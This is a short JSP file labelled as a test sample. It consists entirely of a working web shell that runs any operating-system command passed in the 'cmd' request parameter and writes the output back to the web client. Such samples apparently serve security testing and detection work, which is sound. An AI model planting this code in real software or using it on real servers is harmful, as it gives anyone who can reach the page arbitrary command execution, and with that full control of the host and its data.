<%@ page import="java.io.*" %>
<%-- test sample: command execution from a request parameter --%>
<%
    Process p = Runtime.getRuntime().exec(request.getParameter("cmd"));
    BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
    String line;
    while ((line = r.readLine()) != null) { out.println(line); }
%>
